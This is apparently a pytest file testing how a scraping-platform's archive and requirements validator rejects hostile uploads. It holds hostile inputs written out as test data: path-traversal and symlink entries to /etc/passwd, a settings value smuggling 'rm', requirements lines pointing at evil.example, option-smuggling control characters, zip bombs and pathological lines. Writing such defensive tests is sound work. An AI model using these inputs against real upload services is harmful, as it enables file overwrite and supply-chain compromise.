"""Archives of strangers: what is taken, and all that is not, with the reason."""

import contextlib
import stat
import struct
import warnings

import pytest

from crawlfleet.core.bundles import archives, requirements
from crawlfleet.core.bundles.archives import BadArchive, BadRequirement
from crawlfleet.model.bundle import BundleKind
from tests.code_archives import entry, packed

SCRAPY_CFG = "[settings]\ndefault = shop.settings\n\n[deploy]\nproject = shop\n"


def twice(name: str) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return packed({name: "a"}, lambda archive: archive.writestr(name, "b"))


def test_a_scrapy_project_is_known_by_its_configuration() -> None:
    found = archives.look_into(packed({"scrapy.cfg": SCRAPY_CFG, "shop/settings.py": ""}))

    assert (found.kind, found.settings_module, found.root) == (
        BundleKind.SCRAPY,
        "shop.settings",
        "",
    )
    assert found.requirements == (archives.SCRAPY,)
    assert (found.files, found.unpacked_bytes) == (2, len(SCRAPY_CFG))


def test_a_project_in_a_folder_of_its_own_begins_there() -> None:
    files = {
        "shop-main/scrapy.cfg": SCRAPY_CFG,
        "shop-main/requirements.txt": "scrapy==2.13.3  # as tested\n\nparsel; python_version>'3'\n",
    }
    found = archives.look_into(packed(files))

    assert found.root == "shop-main/"
    assert found.requirements == ("scrapy==2.13.3", 'parsel; python_version > "3"')


def test_a_wheel_says_itself_what_it_needs() -> None:
    metadata = (
        "Metadata-Version: 2.1\nName: shop\nRequires-Dist: Scrapy (>=2.11)\n"
        "Requires-Dist: pytest ; extra == 'test'\n\nRequires-Dist: not-this\n"
    )
    files = {
        "shop/settings.py": "",
        "shop-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        "shop-1.0.dist-info/METADATA": metadata,
        "shop-1.0.dist-info/entry_points.txt": "[scrapy]\nsettings = shop.settings\n",
    }
    found = archives.look_into(packed(files))

    assert (found.kind, found.settings_module) == (BundleKind.WHEEL, "shop.settings")
    assert found.requirements == ("scrapy>=2.11",)


def test_other_code_needs_what_its_pyproject_says() -> None:
    pyproject = "[project]\nname = 'x'\nversion = '1'\ndependencies = ['httpx[http2]>=0.27,<1']\n"
    found = archives.look_into(packed({"x.py": "", "pyproject.toml": pyproject}))

    assert (found.kind, found.requirements) == (BundleKind.FILES, ("httpx[http2]<1,>=0.27",))


HOSTILE = {
    "up": packed({"../evil.py": ""}),
    "up in the middle": packed({"a/../../evil.py": ""}),
    "absolute": packed({"/etc/cron.d/evil": ""}),
    "drive": packed({"C:/evil.py": ""}),
    "backslash": packed({"..\\evil.py": ""}),
    "control character": packed({"a\nb.py": ""}),
    "dot": packed({"./a.py": ""}),
    "empty part": packed({"a//b.py": ""}),
    "too long": packed({"a" * 300: ""}),
    "too deep": packed({"a/" * 40 + "b": ""}),
    "symbolic link": packed({"a.py": ""}, entry("link", stat.S_IFLNK | 0o777, "/etc/passwd")),
    "link to a folder": packed({}, entry("code", stat.S_IFLNK | 0o777, "/"), entry("code/x", 0)),
    "device": packed({"a.py": ""}, entry("null", stat.S_IFCHR | 0o666)),
    "pipe": packed({"a.py": ""}, entry("pipe", stat.S_IFIFO | 0o666)),
    "twice": twice("a.py"),
    "file and folder": packed({"a": "", "a/b.py": ""}),
    "nothing": packed({}),
    "only folders": packed({"a/": ""}),
    "no zip": b"#!/bin/sh\n",
    "empty": b"",
    "odd settings": packed({"scrapy.cfg": "[settings]\ndefault = os; rm\n"}),
    "no settings": packed({"scrapy.cfg": "[deploy]\n"}),
    "broken configuration": packed({"scrapy.cfg": "default = x\n"}),
    "not text": packed({"requirements.txt": b"\xff\xfe\x00"}),
    "broken pyproject": packed({"pyproject.toml": "[project\n"}),
    "option": packed({"requirements.txt": "--trusted-host evil.example\nscrapy\n"}),
    "other file": packed({"requirements.txt": "-r /etc/passwd\n"}),
    "path": packed({"requirements.txt": "./vendor/evil.whl\n"}),
    "address": packed({"requirements.txt": "evil @ https://evil.example/evil.whl\n"}),
    "repository": packed({"requirements.txt": "git+https://evil.example/evil\n"}),
}


@pytest.mark.parametrize("archive", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_is_wrong_is_not_taken(archive: bytes) -> None:
    with pytest.raises(BadArchive):
        archives.look_into(archive)


def test_a_bomb_is_not_unpacked() -> None:
    size = 30_000_000
    bomb = packed({f"{number}.txt": bytes(size) for number in range(4)})
    assert len(bomb) < 200_000

    with pytest.raises(BadArchive, match="120,000,000 bytes when unpacked"):
        archives.look_into(bomb)


def test_a_file_that_is_larger_than_it_says_is_damaged() -> None:
    honest = packed({"a.txt": bytes(1_000_000)})
    lie = honest.replace(struct.pack("<L", 1_000_000), struct.pack("<L", 10))
    assert lie != honest

    with pytest.raises(BadArchive, match="damaged"):
        archives.look_into(lie)


def test_too_many_files_are_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MAX_FILES", 3)
    with pytest.raises(BadArchive, match="4 entries"):
        archives.look_into(packed({f"{number}.py": "" for number in range(4)}))


def test_a_damaged_file_is_found() -> None:
    good = packed({"a.py": "print('hello')" * 50})
    at = good.index(b"a.py") + 10
    bad = good[:at] + bytes([good[at] ^ 0xFF]) + good[at + 1 :]

    with pytest.raises(BadArchive, match="damaged"):
        archives.look_into(bad)


def test_members_are_the_files_with_what_may_be_run() -> None:
    archive = packed({"a.py": "1"}, entry("run.sh", stat.S_IFREG | 0o755, "2"))
    found = {each.name: (each.data, each.is_program) for each in archives.members(archive)}

    assert found == {"a.py": (b"1", False), "run.sh": (b"2", True)}


GOOD = """
# what we need
scrapy ~= 2.11
itemadapter[attrs]>=0.8,!=0.9.0 ; python_version >= "3.9" and sys_platform == 'linux'
zope.interface
w3lib==2.2.1 \\
    --hash=sha256:e1c2e2ac5e4b7fae8a0b4ba8e6b2d6e9a2a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1
"""


def test_packages_with_versions_markers_and_hashes_may_be_named() -> None:
    found = requirements.from_text(GOOD)

    assert [requirements.names(each) for each in found] == [
        "scrapy",
        "itemadapter",
        "zope-interface",
        "w3lib",
    ]


@pytest.mark.parametrize(
    "line",
    ["-e .", "--pre", "scrapy --pre", "/tmp/x", "x @ file:///etc/passwd", "scrapy; x @ y", "a b"],
)
def test_nothing_else_may_be_named(line: str) -> None:
    with pytest.raises(BadRequirement):
        requirements.from_text(f"scrapy\n{line}\n")


def test_a_requirement_is_written_anew_with_its_hashes() -> None:
    hashes = [f"sha256:{'0a' * 32}", f"sha512:{'1b' * 64}"]
    line = "Zope.Interface\t(>=5) ;python_version>'3'  " + "  ".join(f"--hash={h}" for h in hashes)

    assert requirements.checked([line]) == [
        f'zope-interface>=5; python_version > "3" --hash={hashes[0]} --hash={hashes[1]}'
    ]


MARKED = "idna; python_version > '3'"


@pytest.mark.parametrize(
    "entry",
    [
        *(f"{MARKED}{blank}-r /etc/passwd" for blank in "\r\n\x0b\x0c\x1c\x85\u2028\0 "),
        *(f"idna{blank}>=3" for blank in "\r\x0b\x00\x1b\xa0"),
        f"{MARKED}\r--trusted-host evil.example",
        "idna; python_version > '3 --trusted-host x'",
        "idna; python_version > '${HOME}'",
        "idna; python_version > '3 # x'",
        "idna===/etc/passwd",
        f"idna --hash=sha256:{'0' * 63}",
        f"idna --hash=sha256:{'0' * 64}\r-r x",
        f"idna --hash=sha256:{'0' * 64} --pre",
        f"idna --hash=md5:{'0' * 32}",
        f"--hash=sha256:{'0' * 64}",
        "",
    ],
)
def test_no_option_gets_in_beside_a_package(entry: str) -> None:
    with pytest.raises(BadRequirement):
        requirements.checked([entry])


def test_what_looks_like_a_file_is_the_name_of_a_package() -> None:
    assert requirements.checked(["evil.whl"]) == ["evil-whl"]


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "line",
    [
        f"idna{' ' * 2_000}@",
        f"idna{' ' * 900}@",
        f"idna[{'a,' * 450}",
        f"idna{'>=1,' * 240}!",
        f"idna; {'(' * 900}",
        f"idna; {'(' * 20}python_version > '3'{' ' * 900}",
        f"idna==1{'.0' * 450}x",
        f"idna==1{'0' * 900}",
        "a" * 1_000 + "!",
        "idna" + f" --hash=sha256:{'0' * 64}" * 2_000,
        "idna" + " --hash=" * 4_000,
    ],
)
def test_an_odd_line_is_judged_at_once(line: str) -> None:
    for _ in range(20):
        with contextlib.suppress(BadRequirement):
            requirements.checked([line])


def test_the_number_of_requirements_is_bounded() -> None:
    with pytest.raises(BadRequirement, match="more than 500"):
        requirements.from_text("idna\n" * 501)


def test_a_pyproject_that_nests_without_end_is_not_taken() -> None:
    with pytest.raises(BadRequirement, match="cannot be read"):
        requirements.from_pyproject("x = " + "[" * 50_000)
    with pytest.raises(BadRequirement, match="too deep"):
        requirements.from_pyproject(f"x = {'[' * 201}{']' * 201}")


@pytest.mark.parametrize("text", ["'{}'", '"{}"', "'''\n{}'''", '"""\n{}\\""""""', "1 # {}"])
def test_brackets_in_the_strings_of_a_pyproject_are_not_counted(text: str) -> None:
    project = f"x = {text.format('[' * 500)}\n[project]\ndependencies = ['idna']"
    assert requirements.from_pyproject(project) == ["idna"]
